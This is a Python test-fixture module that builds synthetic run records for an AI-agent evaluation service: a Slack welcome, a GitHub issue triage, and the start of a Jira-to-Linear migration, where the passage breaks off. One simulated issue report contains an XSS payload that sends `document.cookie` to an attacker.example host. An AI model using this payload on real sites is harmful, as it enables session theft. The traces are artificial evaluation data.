"""Sample Archal run records, served by the bundled sample API and used by the tests.

Each record has the shape of the canonical JSON that Archal serves from
``GET /api/runs/{runId}``: the scenario, the agent, status and score, the result
of each criterion, a step-by-step trace (agent messages, tool calls, API
requests against the hosted service clones, and the state changes they
caused), and the agent's final output. The records are awkward in the same ways
real data is. They contain non-ASCII and right-to-left text, HTML and
``<script>`` inside strings, 64-bit integers that JavaScript rounds, nested
errors, nulls, empty containers and one trace of several megabytes.

Everything here is deterministic: the large record comes from
``random.Random`` with a fixed seed, and nothing reads the clock or calls
``uuid4``.
"""

from __future__ import annotations

import base64
import functools
import json
import random
from datetime import datetime, timedelta, timezone
from urllib.parse import quote, urlencode

__all__ = ["SAMPLE_RUN_IDS", "build_record", "encoded_records"]

# Small to large, the order in which to show them to a newcomer.
SAMPLE_RUN_IDS: tuple[str, ...] = (
    "run_2m8q4v1kza",  # passed: Slack welcome for a new hire (tiny)
    "run_c5w9r2d6ht",  # failed: Stripe duplicate-charge refund goes wrong
    "run_7f3k2m9xq1",  # passed: GitHub issue triage plus a Slack summary
    "run_k8d3x0p6nb",  # errored: Jira to Linear migration hits a rate limit and crashes
    "run_x4h7t1j9se",  # passed: an hour-long backlog sweep across 18 repos (several MB)
)

GITHUB_API = "https://api.github.clone.archal.ai"
GITHUB_WEB = "https://github.clone.archal.ai"
SLACK_API = "https://api.slack.clone.archal.ai/api"
STRIPE_API = "https://api.stripe.clone.archal.ai/v1"
JIRA_API = "https://api.jira.clone.archal.ai/rest/api/3"
LINEAR_API = "https://api.linear.clone.archal.ai/graphql"
HARNESS_UA = "archal-harness/0.10.0 python-httpx/0.27.2"


# -- small helpers -------------------------------------------------------------

def _dt(ts: str) -> datetime:
    return datetime.strptime(ts, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)


def _iso(dt: datetime) -> str:
    """Archal's timestamp format: UTC with milliseconds and a Z."""
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def _at(start: str, ms: int) -> str:
    """The timestamp ``ms`` milliseconds after ``start``."""
    return _iso(_dt(start) + timedelta(milliseconds=ms))


def _ms(start: str, end: str) -> int:
    return (_dt(end) - _dt(start)) // timedelta(milliseconds=1)


def _unix(ts: str) -> int:
    return int(_dt(ts).timestamp())


def _gh_time(dt: datetime) -> str:
    """GitHub's own timestamp format (seconds, no fraction)."""
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def _slack_ts(ts: str, seq: int) -> str:
    return f"{_unix(ts)}.{seq:06d}"


def _node_id(kind: str, number: int) -> str:
    """GitHub's legacy global node ID: base64 of e.g. ``05:Issue2594827561``."""
    prefix = {"User": "04", "Issue": "05", "Label": "010", "IssueComment": "012"}[kind]
    return base64.b64encode(f"{prefix}:{kind}{number}".encode()).decode()


def _indexed(steps: list[dict]) -> list[dict]:
    return [{"index": i, **step} for i, step in enumerate(steps)]


def _weighted_score(criteria: list[dict]) -> float:
    total = sum(c["weight"] for c in criteria)
    return round(sum(c["score"] * c["weight"] for c in criteria) / total, 4)


def _usage(trace: list[dict], *, llm_calls: int, input_tokens: int, output_tokens: int,
           usd_per_mtok_in: float, usd_per_mtok_out: float) -> dict:
    def count(kind: str) -> int:
        return sum(1 for step in trace if step["kind"] == kind)

    return {
        "steps": len(trace),
        "llm_calls": llm_calls,
        "tool_calls": count("tool_call"),
        "api_requests": count("api_request"),
        "state_changes": count("state_change"),
        "input_tokens": input_tokens,
        "output_tokens": output_tokens,
        "cost_usd": round(input_tokens * usd_per_mtok_in / 1e6 + output_tokens * usd_per_mtok_out / 1e6, 4),
    }


def _links(run_id: str) -> dict:
    return {
        "self": f"https://api.archal.ai/api/runs/{run_id}",
        "web": f"https://archal.ai/runs/{run_id}",
    }


def _msg(at: str, content: str, role: str = "assistant") -> dict:
    return {"timestamp": at, "kind": "agent_message", "role": role, "content": content}


def _tool(at: str, call_id: str, tool: str, arguments: dict, *, duration_ms: int,
          result: object = None, error: dict | None = None) -> dict:
    return {
        "timestamp": at, "kind": "tool_call", "call_id": call_id, "tool": tool,
        "arguments": arguments, "duration_ms": duration_ms,
        "status": "error" if error else "ok", "result": result, "error": error,
    }


def _api(at: str, call_id: str, service: str, method: str, url: str, *, status: int,
         duration_ms: int, headers: dict, body: object = None,
         response_headers: dict, response_body: object) -> dict:
    return {
        "timestamp": at, "kind": "api_request", "call_id": call_id, "service": service,
        "duration_ms": duration_ms,
        "request": {"method": method, "url": url, "headers": headers, "body": body},
        "response": {"status": status, "headers": response_headers, "body": response_body},
    }


def _state(at: str, call_id: str, service: str, resource: str, resource_id: str,
           operation: str, before: object, after: object) -> dict:
    return {
        "timestamp": at, "kind": "state_change", "call_id": call_id, "service": service,
        "resource": resource, "resource_id": resource_id, "operation": operation,
        "before": before, "after": after,
    }


def _headers(session: str, *, json_body: bool = False, **extra: str) -> dict:
    """Request headers as the clone proxy logged them: credentials are redacted."""
    headers = {
        "accept": "application/json",
        "user-agent": HARNESS_UA,
        "authorization": "[REDACTED]",
        "x-archal-session": session,
    }
    if json_body:
        headers["content-type"] = "application/json"
    headers.update(extra)
    return headers


def _gh_headers(session: str, *, json_body: bool = False) -> dict:
    return _headers(session, json_body=json_body, accept="application/vnd.github+json",
                    **{"x-github-api-version": "2022-11-28"})


def _resp_headers(request_id: str, content_type: str = "application/json; charset=utf-8",
                  **extra: str) -> dict:
    return {"content-type": content_type, "x-archal-request-id": request_id, **extra}


def _gh_user(login: str, uid: int, kind: str = "User") -> dict:
    return {
        "login": login,
        "id": uid,
        "node_id": _node_id("User", uid),
        "avatar_url": f"https://avatars.github.clone.archal.ai/u/{uid}?v=4",
        "html_url": f"{GITHUB_WEB}/{quote(login)}",
        "type": kind,
        "site_admin": False,
    }


def _gh_label(owner: str, repo: str, lid: int, name: str, color: str, description: str | None,
              default: bool = False) -> dict:
    return {
        "id": lid,
        "node_id": _node_id("Label", lid),
        "url": f"{GITHUB_API}/repos/{owner}/{repo}/labels/{quote(name)}",
        "name": name,
        "color": color,
        "default": default,
        "description": description,
    }


def _gh_issue(owner: str, repo: str, *, iid: int, number: int, title: str, body: str | None,
              user: dict, created: datetime, updated: datetime, labels: list[dict],
              comments: int, association: str, reactions: dict | None = None,
              state: str = "open", state_reason: str | None = None,
              closed: datetime | None = None) -> dict:
    counts = {"+1": 0, "-1": 0, "laugh": 0, "hooray": 0, "confused": 0, "heart": 0,
              "rocket": 0, "eyes": 0, **(reactions or {})}
    base = f"{GITHUB_API}/repos/{owner}/{repo}/issues/{number}"
    return {
        "url": base,
        "repository_url": f"{GITHUB_API}/repos/{owner}/{repo}",
        "comments_url": f"{base}/comments",
        "html_url": f"{GITHUB_WEB}/{owner}/{repo}/issues/{number}",
        "id": iid,
        "node_id": _node_id("Issue", iid),
        "number": number,
        "title": title,
        "user": user,
        "labels": labels,
        "state": state,
        "locked": False,
        "assignee": None,
        "assignees": [],
        "milestone": None,
        "comments": comments,
        "created_at": _gh_time(created),
        "updated_at": _gh_time(updated),
        "closed_at": _gh_time(closed) if closed else None,
        "author_association": association,
        "active_lock_reason": None,
        "body": body,
        "reactions": {"url": f"{base}/reactions", "total_count": sum(counts.values()), **counts},
        "performed_via_github_app": None,
        "state_reason": state_reason,
    }


# -- tiny and passing: a Slack welcome ---------------------------------------

def _record_slack_welcome() -> dict:
    run_id = "run_2m8q4v1kza"
    session = "ses_q9w2e7r4t1"
    start = "2025-11-03T08:02:17.412Z"
    end = _at(start, 14_873)
    ts_general = _slack_ts(_at(start, 7_046), 100)
    ts_dm = _slack_ts(_at(start, 12_590), 200)
    checklist = "https://wiki.acme-robotics.example/onboarding/checklist?team=robotics-sw&lang=de"
    welcome = ("Please welcome <@U07J8K2LQ4M> to the team! 🎉 Jürgen joins Robotics Software "
               "from München — say hallo 👋")
    dm = ("Hallo Jürgen, willkommen an Bord! 🚀\n"
          f"Here's your onboarding checklist: {checklist}\n"
          "Ping me here if anything is unclear.")
    user = {
        "id": "U07J8K2LQ4M",
        "team_id": "T01ACMEB0T",
        "name": "juergen.groessmann",
        "deleted": False,
        "real_name": "Jürgen Größmann",
        "tz": "Europe/Berlin",
        "tz_label": "Central European Time",
        "tz_offset": 3600,
        "profile": {
            "title": "Robotics Software Engineer",
            "display_name": "Jürgen",
            "status_text": "",
            "status_emoji": "",
            "fields": {},
            "image_72": "https://avatars.slack.clone.archal.ai/U07J8K2LQ4M_72.png",
        },
        "is_admin": False,
        "is_bot": False,
        "is_restricted": False,
        "updated": 1762156800,
        "is_email_confirmed": True,
    }
    trace = _indexed([
        _msg(_at(start, 2_204), "Looking up the new hire by email so I can @-mention them."),
        _tool(_at(start, 2_210), "call_01", "slack.users_lookupByEmail",
              {"email": "juergen.groessmann@acme-robotics.example"}, duration_ms=131,
              result={"id": "U07J8K2LQ4M", "real_name": "Jürgen Größmann", "tz": "Europe/Berlin"}),
        _api(_at(start, 2_221), "call_01", "slack", "GET",
             f"{SLACK_API}/users.lookupByEmail?email=juergen.groessmann%40acme-robotics.example",
             status=200, duration_ms=104, headers=_headers(session),
             response_headers=_resp_headers("req_5c1e0a77d2"),
             response_body={"ok": True, "user": user}),
        _msg(_at(start, 5_870), "Found Jürgen (U07J8K2LQ4M). Posting the welcome in #general."),
        _tool(_at(start, 6_912), "call_02", "slack.chat_postMessage",
              {"channel": "C02H7KQ4N1B", "text": welcome}, duration_ms=158,
              result={"ok": True, "ts": ts_general}),
        _api(_at(start, 6_925), "call_02", "slack", "POST", f"{SLACK_API}/chat.postMessage",
             status=200, duration_ms=121, headers=_headers(session, json_body=True),
             body={"channel": "C02H7KQ4N1B", "text": welcome, "unfurl_links": False},
             response_headers=_resp_headers("req_5c1e0a9b40"),
             response_body={
                 "ok": True, "channel": "C02H7KQ4N1B", "ts": ts_general,
                 "message": {"type": "message", "user": "U05BUDDYB0T", "bot_id": "B05BUDDY01",
                             "text": welcome, "ts": ts_general, "blocks": [], "reactions": []},
             }),
        _state(_at(start, 7_046), "call_02", "slack", "message", f"C02H7KQ4N1B/{ts_general}", "create",
               None, {"channel": "C02H7KQ4N1B", "channel_name": "general", "ts": ts_general,
                      "user": "U05BUDDYB0T", "text": welcome, "thread_ts": None, "files": []}),
        _tool(_at(start, 10_331), "call_03", "slack.conversations_open", {"users": "U07J8K2LQ4M"},
              duration_ms=97, result={"channel_id": "D07J8M3RX2P"}),
        _api(_at(start, 10_340), "call_03", "slack", "POST", f"{SLACK_API}/conversations.open",
             status=200, duration_ms=83, headers=_headers(session, json_body=True),
             body={"users": "U07J8K2LQ4M"},
             response_headers=_resp_headers("req_5c1e0ab3f1"),
             response_body={"ok": True, "no_op": False, "already_open": False,
                            "channel": {"id": "D07J8M3RX2P"}}),
        _tool(_at(start, 12_455), "call_04", "slack.chat_postMessage",
              {"channel": "D07J8M3RX2P", "text": dm}, duration_ms=149,
              result={"ok": True, "ts": ts_dm}),
        _api(_at(start, 12_468), "call_04", "slack", "POST", f"{SLACK_API}/chat.postMessage",
             status=200, duration_ms=117, headers=_headers(session, json_body=True),
             body={"channel": "D07J8M3RX2P", "text": dm, "unfurl_links": False},
             response_headers=_resp_headers("req_5c1e0ac820"),
             response_body={
                 "ok": True, "channel": "D07J8M3RX2P", "ts": ts_dm,
                 "message": {"type": "message", "user": "U05BUDDYB0T", "bot_id": "B05BUDDY01",
                             "text": dm, "ts": ts_dm, "blocks": [], "reactions": []},
             }),
        _state(_at(start, 12_590), "call_04", "slack", "message", f"D07J8M3RX2P/{ts_dm}", "create",
               None, {"channel": "D07J8M3RX2P", "channel_name": None, "ts": ts_dm,
                      "user": "U05BUDDYB0T", "text": dm, "thread_ts": None, "files": []}),
        _msg(_at(start, 14_702), "Welcome posted and checklist sent. Done."),
    ])
    criteria = [
        {"id": "welcome_posted", "description": "A welcome message is posted in #general",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "chat.postMessage to #general succeeded and the message exists in the clone.",
         "evidence": [{"step": 6, "note": "message created in C02H7KQ4N1B"}]},
        {"id": "mentions_new_hire", "description": "The welcome @-mentions the new hire (<@U…>)",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "Text contains <@U07J8K2LQ4M>, the new hire's user ID.",
         "evidence": [{"step": 5, "note": "request body text"}]},
        {"id": "checklist_dm", "description": "The new hire gets a DM with the onboarding checklist link",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": f"DM to D07J8M3RX2P contains {checklist}",
         "evidence": [{"step": 11, "note": "message created in D07J8M3RX2P"}]},
    ]
    return {
        "id": run_id,
        "object": "run",
        "scenario": {
            "id": "scn_4tq8v2",
            "name": "slack-welcome-new-hire",
            "description": ("A new engineer, Jürgen Größmann, starts today. Post a welcome in #general "
                            "that mentions him, and DM him the onboarding checklist link."),
            "services": ["slack"],
            "pass_threshold": 1.0,
            "tags": ["onboarding", "smoke"],
            "source": "scenarios/slack-welcome-new-hire.md",
        },
        "agent": {"name": "onboarding-buddy", "model": "claude-haiku-4-5", "version": "1.2.0",
                  "harness": {"type": "command", "command": "python -m buddy.run"}, "config": {}},
        "status": "passed",
        "score": _weighted_score(criteria),
        "started_at": start,
        "finished_at": end,
        "duration_ms": _ms(start, end),
        "session": {"id": session, "clones": [
            {"service": "slack", "clone_id": "cln_slk_81fa2c", "base_url": "https://api.slack.clone.archal.ai",
             "seed_state": "acme-robotics-small", "version": "2025.10.28"},
        ]},
        "criteria": criteria,
        "trace": trace,
        "output": ("Done ✅\n\n"
                   "- Posted a welcome for **Jürgen Größmann** in #general\n"
                   f"- Sent Jürgen a DM with the [onboarding checklist]({checklist})\n\n"
                   "Nothing else needed."),
        "error": None,
        "usage": _usage(trace, llm_calls=7, input_tokens=9_412, output_tokens=611,
                        usd_per_mtok_in=1.0, usd_per_mtok_out=5.0),
        "retries": 0,
        "parent_run_id": None,
        "labels": {},
        "links": _links(run_id),
    }


# -- passing with a miss: GitHub triage, hostile issue content ----------------

def _record_github_triage() -> dict:
    run_id = "run_7f3k2m9xq1"
    session = "ses_h3j8k1l5z0"
    start = "2025-11-04T14:21:07.318Z"
    end = _at(start, 41_552)
    owner, repo = "acme-robotics", "web-console"
    issues_url = f"{GITHUB_API}/repos/{owner}/{repo}/issues"
    t0 = _dt(start)

    def label(key: str) -> dict:
        lid, name, color, desc = {
            "bug": (1205348827, "bug", "d73a4a", "Something isn't working"),
            "security": (5103917742, "security", "ee0701", "Security-sensitive: do not discuss details publicly"),
            "priority:high": (5103920011, "priority:high", "b60205", None),
            "needs-repro": (3349950123, "needs-repro", "fbca04", "Maintainers could not reproduce yet"),
            "enhancement": (1205348831, "enhancement", "a2eeef", "New feature or request"),
        }[key]
        return _gh_label(owner, repo, lid, name, color, desc, default=key in ("bug", "enhancement"))

    xss_title = "Stored XSS in comment preview: <script> tags execute"
    xss_body = (
        "### Describe the bug\n"
        "The Markdown preview in the work-order comment box renders raw HTML. Pasting this:\n\n"
        "```html\n"
        "<script>alert(1)</script>\n"
        "<img src=x onerror=\"fetch('https://attacker.example/c?='+document.cookie)\">\n"
        "```\n\n"
        "…and clicking **Preview** pops the alert. After saving, it fires for everyone who opens "
        "the work order. Plain <script>alert(1)</script> outside a code block works too.\n\n"
        "### Version\n"
        "web-console v3.18.2 (Chrome 130, macOS 15.1)\n\n"
        "_I have not shared this anywhere else._"
    )
    ja_title = "ログイン画面でエラーが発生する (Safari 17)"
    ja_body = (
        "Safari 17.1 でログインしようとすると「予期しないエラーが発生しました」と表示され、ログインできません。\n"
        "Chrome では問題ありません。\n\n"
        "再現手順:\n"
        "1. https://console.acme-robotics.example/login を開く\n"
        "2. SSO でログイン\n"
        "3. エラー画面が表示される\n\n"
        "コンソール: `TypeError: crypto.randomUUID is not a function`"
    )
    dm_title = "Dark mode for the settings page 🌙"
    dm_body = (
        "It would be great if the settings page respected `prefers-color-scheme: dark` like the rest "
        "of the console. Right now it flashes white at night 😎\n\n"
        "- [ ] settings/general\n- [ ] settings/billing\n- [ ] settings/api-keys"
    )

    def issue(number: int, labels: list[dict], comments: int = 0) -> dict:
        spec = {
            482: dict(iid=2594827561, title=xss_title, body=xss_body,
                      user=_gh_user("h4ck3r-n0t", 98811234), association="NONE",
                      created=t0 - timedelta(hours=5, minutes=12), reactions={"eyes": 2}),
            483: dict(iid=2594901877, title=ja_title, body=ja_body,
                      user=_gh_user("ykobayashi", 40211873), association="NONE",
                      created=t0 - timedelta(hours=3, minutes=47), reactions={"+1": 4}),
            484: dict(iid=2595012230, title=dm_title, body=dm_body,
                      user=_gh_user("lea-martin", 7734120), association="CONTRIBUTOR",
                      created=t0 - timedelta(minutes=58), reactions={"heart": 3, "+1": 11}),
        }[number]
        created = spec.pop("created")
        return _gh_issue(owner, repo, number=number, labels=labels, comments=comments,
                         created=created, updated=created, **spec)

    new_labels = {
        482: ["security", "bug", "priority:high"],
        483: ["bug", "needs-repro"],
        484: ["enhancement"],
    }
    comment_483 = ("ご報告ありがとうございます！ 🙏\n"
                   "Could you tell us the exact Safari version (Safari → About Safari) and whether "
                   "you use a private window? `crypto.randomUUID` needs a secure context, so a "
                   "screenshot of the address bar would help too.")
    slack_text = (
        f"*Triage — {owner}/{repo}* (3 new issues)\n"
        f"• <{GITHUB_WEB}/{owner}/{repo}/issues/482|#482> {xss_title} → `security` `bug` "
        "`priority:high` :rotating_light:\n"
        f"• <{GITHUB_WEB}/{owner}/{repo}/issues/483|#483> {ja_title} → `bug` `needs-repro`\n"
        f"• <{GITHUB_WEB}/{owner}/{repo}/issues/484|#484> {dm_title} → `enhancement`\n"
        "<!subteam^S04SECURITY> please look at #482 today."
    )
    slack_ts = _slack_ts(_at(start, 36_214), 200)

    steps = [
        _msg(_at(start, 1_902), f"Listing open, unlabelled issues in {owner}/{repo}."),
        _tool(_at(start, 1_911), "call_a1", "github.list_issues",
              {"owner": owner, "repo": repo, "state": "open", "labels": "none", "sort": "created",
               "direction": "desc", "per_page": 30}, duration_ms=288,
              result={"count": 3, "numbers": [484, 483, 482]}),
        _api(_at(start, 1_925), "call_a1", "github", "GET",
             f"{issues_url}?state=open&labels=none&sort=created&direction=desc&per_page=30",
             status=200, duration_ms=251, headers=_gh_headers(session),
             response_headers=_resp_headers("req_0b7e11c4a9", **{
                 "x-ratelimit-limit": "5000", "x-ratelimit-remaining": "4991",
                 "x-ratelimit-reset": str(_unix(start) + 2_817), "link": ""}),
             response_body=[issue(484, []), issue(483, []), issue(482, [])]),
        _msg(_at(start, 9_640),
             "#482 reports a stored XSS (`<script>` runs in the preview) → security + high priority.\n"
             "#483 is a Japanese bug report: login fails on Safari 17 with "
             "`crypto.randomUUID is not a function` → bug, needs a repro.\n"
             "#484 is a feature request (dark mode) → enhancement."),
    ]
    call = 1
    for number, offset in ((482, 10_118), (483, 13_407), (484, 16_950)):
        call += 1
        cid = f"call_a{call}"
        names = new_labels[number]
        steps += [
            _tool(_at(start, offset), cid, "github.add_labels",
                  {"owner": owner, "repo": repo, "issue_number": number, "labels": names},
                  duration_ms=214, result={"labels": names}),
            _api(_at(start, offset + 12), cid, "github", "POST", f"{issues_url}/{number}/labels",
                 status=200, duration_ms=187, headers=_gh_headers(session, json_body=True),
                 body={"labels": names},
                 response_headers=_resp_headers(f"req_0b7e12{number:04x}"),
                 response_body=[label(n) for n in names]),
            _state(_at(start, offset + 201), cid, "github", "issue", f"{owner}/{repo}#{number}", "update",
                   {"labels": []}, {"labels": names}),
        ]
    steps += [
        _tool(_at(start, 22_480), "call_a5", "github.create_comment",
              {"owner": owner, "repo": repo, "issue_number": 483, "body": comment_483},
              duration_ms=305, result={"id": 2481199017, "html_url":
                                       f"{GITHUB_WEB}/{owner}/{repo}/issues/483#issuecomment-2481199017"}),
        _api(_at(start, 22_492), "call_a5", "github", "POST", f"{issues_url}/483/comments",
             status=201, duration_ms=271, headers=_gh_headers(session, json_body=True),
             body={"body": comment_483},
             response_headers=_resp_headers("req_0b7e13f0d2",
                                            location=f"{issues_url}/comments/2481199017"),
             response_body={
                 "id": 2481199017,
                 "node_id": _node_id("IssueComment", 2481199017),
                 "url": f"{issues_url}/comments/2481199017",
                 "html_url": f"{GITHUB_WEB}/{owner}/{repo}/issues/483#issuecomment-2481199017",
                 "body": comment_483,
                 "user": _gh_user("acme-triage[bot]", 149200331, kind="Bot"),
                 "created_at": _gh_time(_dt(_at(start, 22_700))),
                 "updated_at": _gh_time(_dt(_at(start, 22_700))),
                 "author_association": "NONE",
                 "reactions": {"url": f"{issues_url}/comments/2481199017/reactions", "total_count": 0},
                 "performed_via_github_app": {"id": 812344, "slug": "acme-triage", "name": "Acme Triage"},
             }),
        _state(_at(start, 22_766), "call_a5", "github", "issue_comment", "2481199017", "create",
               None, {"issue": f"{owner}/{repo}#483", "body": comment_483, "user": "acme-triage[bot]"}),
        _msg(_at(start, 30_118), "Labels applied. Posting the summary to #eng-triage and paging security for #482."),
        _tool(_at(start, 36_020), "call_a6", "slack.chat_postMessage",
              {"channel": "C05TRIAGE01", "text": slack_text, "unfurl_links": False},
              duration_ms=201, result={"ok": True, "ts": slack_ts}),
        _api(_at(start, 36_031), "call_a6", "slack", "POST", f"{SLACK_API}/chat.postMessage",
             status=200, duration_ms=176, headers=_headers(session, json_body=True),
             body={"channel": "C05TRIAGE01", "text": slack_text, "unfurl_links": False},
             response_headers=_resp_headers("req_0b7e14aa31"),
             response_body={
                 "ok": True, "channel": "C05TRIAGE01", "ts": slack_ts,
                 "message": {
                     "type": "message", "subtype": None, "user": "U04TRIAGEBT", "bot_id": "B04TRIAGE1",
                     "text": slack_text, "ts": slack_ts, "team": "T01ACMEB0T",
                     "archal_seq": 505874924095815681,
                     "blocks": [], "attachments": [], "reactions": [],
                 },
             }),
        _state(_at(start, 36_214), "call_a6", "slack", "message", f"C05TRIAGE01/{slack_ts}", "create",
               None, {"channel": "C05TRIAGE01", "channel_name": "eng-triage", "ts": slack_ts,
                      "text": slack_text, "archal_seq": 505874924095815681, "mentions": ["S04SECURITY"]}),
        _msg(_at(start, 41_377), "Triage complete; summary below."),
    ]
    trace = _indexed(steps)
    criteria = [
        {"id": "security_flagged",
         "description": "The XSS report (#482) is labelled `security` and `priority:high`",
         "passed": True, "score": 1.0, "weight": 2,
         "explanation": "Both labels are on #482 in the final GitHub state.",
         "evidence": [{"step": 5, "note": "POST …/issues/482/labels"},
                      {"step": 6, "note": "labels [] → [security, bug, priority:high]"}]},
        {"id": "all_typed", "description": "Every new issue gets exactly one type label (bug/enhancement/question)",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "#482 bug, #483 bug, #484 enhancement.",
         "evidence": [{"step": 6, "note": "#482"}, {"step": 9, "note": "#483"}, {"step": 12, "note": "#484"}]},
        {"id": "area_labels", "description": "Issues get the right area label (#483 → `area:auth`)",
         "passed": False, "score": 0.0, "weight": 1,
         "explanation": ("#483 is a login failure, so `area:auth` was expected; the agent applied only "
                         "`bug` and `needs-repro`."),
         "evidence": [{"step": 9, "note": "labels [] → [bug, needs-repro]"}]},
        {"id": "slack_summary", "description": "A summary linking every issue is posted to #eng-triage",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "One message in #eng-triage links #482, #483 and #484 and mentions @security.",
         "evidence": [{"step": 19, "note": "message created"}]},
        {"id": "no_destructive_actions", "description": "No issue is closed, deleted, locked or reassigned",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "Only label and comment writes happened.", "evidence": []},
    ]
    output = (
        f"## Triage summary — {owner}/{repo}\n\n"
        "| Issue | Title | Labels |\n"
        "|---|---|---|\n"
        f"| #482 | Stored XSS in comment preview: `<script>` tags execute | `security`, `bug`, `priority:high` |\n"
        f"| #483 | {ja_title} | `bug`, `needs-repro` |\n"
        f"| #484 | {dm_title} | `enhancement` |\n\n"
        "⚠️ **#482 looks like a real stored XSS.** The reporter's payload <script>alert(1)</script> "
        "runs in the preview pane and again for every viewer after saving. I pinged @security in Slack.\n\n"
        "I asked the reporter of #483 (in Japanese and English) for their Safari version.\n\n"
        f"Summary in Slack: https://acme-robotics.slack.clone.archal.ai/archives/C05TRIAGE01/p{slack_ts.replace('.', '')}"
    )
    return {
        "id": run_id,
        "object": "run",
        "scenario": {
            "id": "scn_9vd3k1",
            "name": "github-issue-triage",
            "description": ("Triage the unlabelled open issues in acme-robotics/web-console: apply type, "
                            "area and priority labels, ask for missing details, and post a summary to "
                            "#eng-triage. Escalate anything security-related."),
            "services": ["github", "slack"],
            "pass_threshold": 0.8,
            "tags": ["triage", "security", "i18n"],
            "source": "scenarios/github-issue-triage.md",
        },
        "agent": {"name": "triage-bot", "model": "claude-sonnet-4-5-20250929", "version": "2.4.1",
                  "harness": {"type": "command", "command": "node dist/triage.js"},
                  "config": {"max_steps": 40, "temperature": 0.2, "dry_run": False}},
        "status": "passed",
        "score": _weighted_score(criteria),
        "started_at": start,
        "finished_at": end,
        "duration_ms": _ms(start, end),
        "session": {"id": session, "clones": [
            {"service": "github", "clone_id": "cln_gh_2d94b0", "base_url": GITHUB_API,
             "seed_state": "acme-robotics-web-console", "version": "2025.10.28"},
            {"service": "slack", "clone_id": "cln_slk_7c03e1", "base_url": "https://api.slack.clone.archal.ai",
             "seed_state": "acme-robotics-small", "version": "2025.10.28"},
        ]},
        "criteria": criteria,
        "trace": trace,
        "output": output,
        "error": None,
        "usage": _usage(trace, llm_calls=8, input_tokens=38_906, output_tokens=2_417,
                        usd_per_mtok_in=3.0, usd_per_mtok_out=15.0),
        "retries": 0,
        "parent_run_id": None,
        "labels": {"team": "dev-experience", "ci": "true"},
        "links": _links(run_id),
    }


# -- errored: Jira → Linear migration crashes on a rate limit -----------------

_PY_TRACEBACK = (
    "Traceback (most recent call last):\n"
    "  File \"/app/migrator/main.py\", line 57, in run\n"
    "    result = await agent.step(observation)\n"
    "  File \"/app/migrator/agent.py\", line 212, in step\n"
    "    output = await self.tools.invoke(call.name, call.arguments)\n"
    "  File \"/app/migrator/tools/__init__.py\", line 41, in invoke\n"
    "    return await tool(**arguments)\n"
    "  File \"/app/migrator/tools/linear.py\", line 88, in create_issue\n"
    "    resp.raise_for_status()\n"
    "  File \"/app/.venv/lib/python3.12/site-packages/httpx/_models.py\", line 829, in raise_for_status\n"
    "    raise HTTPStatusError(message, request=request, response=self)\n"
    "httpx.HTTPStatusError: Client error '429 Too Many Requests' for url "
    "'https://api.linear.clone.archal.ai/graphql'\n"
    "For more information check: https://developer.mozilla.org/en-US/docs/Web/HTTP/Status/429"
)


def _record_jira_linear_migration() -> dict:
    run_id = "run_k8d3x0p6nb"
    session = "ses_m4n7b2v9c6"
    start = "2025-11-06T10:03:44.051Z"
    end = _at(start, 71_906)
    team_id = "b3f1c9e2-7a44-4d0b-9e61-2f8a5d7c1e03"
    jql = "project = PAY AND statusCategory != Done ORDER BY priority DESC"
    fields = ["summary", "description", "priority", "assignee", "labels", "customfield_10016"]

    def adf(*paragraphs: str) -> dict:
        """Jira's Atlassian Document Format, one paragraph per string."""
        return {"type": "doc", "version": 1, "content": [
            {"type": "paragraph", "content": [{"type": "text", "text": p}]} for p in paragraphs]}

    def jira_issue(iid: str, key: str, summary: str, description: dict, priority: str,
                   assignee: tuple[str, str] | None, labels: list[str], points: float | None) -> dict:
        return {
            "id": iid, "key": key, "self": f"{JIRA_API}/issue/{iid}",
            "fields": {
                "summary": summary,
                "description": description,
                "priority": {"name": priority, "id": {"Highest": "1", "High": "2", "Medium": "3", "Low": "4"}[priority]},
                "assignee": None if assignee is None else {
                    "accountId": assignee[0], "displayName": assignee[1], "active": True},
                "labels": labels,
                "customfield_10016": points,
            },
        }

    jira_issues = [
        jira_issue("10440", "PAY-1440", "تعذر إتمام الدفع عند استخدام بطاقة مدى",
                   adf("يظهر خطأ «رفض من البنك» لكل بطاقات مدى منذ تحديث ٢٠٢٥/١٠/٣٠.",
                       "Affects every mada card since the 30 Oct release; checkout shows "
                       "\"Declined by issuer\" (code 05). Approx. 1,240 failed checkouts/day in KSA."),
                   "Highest", ("712020:5b1d0e4c-ffe1-4a0f-9d37-28c1a6e0b7aa", "ليلى حداد"),
                   ["mada", "checkout", "ksa"], 5.0),
        jira_issue("10432", "PAY-1432",
                   "Überweisungen schlagen fehl, wenn der Empfängername Umlaute enthält (ä, ö, ü, ß)",
                   adf("SEPA-Überweisungen an „Müller & Söhne GmbH“ werden mit "
                       "AC01/„IncorrectAccountNumber“ abgelehnt.",
                       "Vermutlich wird der Name vor dem Export nach ISO-8859-1 statt UTF-8 kodiert."),
                   "High", ("712020:0c9a5f3e-81d2-4b6e-a3c4-9e7f1d2b5c68", "Jörg Weiß"),
                   ["sepa", "encoding"], 3.0),
        jira_issue("10437", "PAY-1437", "請求書PDFの日付が和暦で表示されない",
                   adf("請求書PDFの発行日が西暦のまま表示されます。",
                       "日本のお客様は「令和7年11月6日」形式を希望しています。"),
                   "Medium", ("712020:e41b7c09-3d5a-4f88-b2e6-7a0c9d1f3e25", "佐藤 美咲"),
                   ["invoices", "i18n"], None),
        jira_issue("10441", "PAY-1441", "Webhook retries stop after 3 attempts instead of 8",
                   adf("Per the docs we retry failed webhooks 8 times with exponential backoff "
                       "(max 36h). Production logs show delivery stops after attempt 3."),
                   "Low", None, [], 2.0),
    ]

    create_mutation = ("mutation IssueCreate($input: IssueCreateInput!) { issueCreate(input: $input) "
                       "{ success issue { id identifier url title priority } } }")

    def linear_input(issue: dict, priority: int) -> dict:
        f = issue["fields"]
        return {
            "teamId": team_id,
            "title": f["summary"],
            "description": "\n\n".join(p["content"][0]["text"] for p in f["description"]["content"])
                           + f"\n\n_Migrated from Jira {issue['key']}_",
            "priority": priority,
            "estimate": f["customfield_10016"],
        }

    in_1440 = linear_input(jira_issues[0], 1)
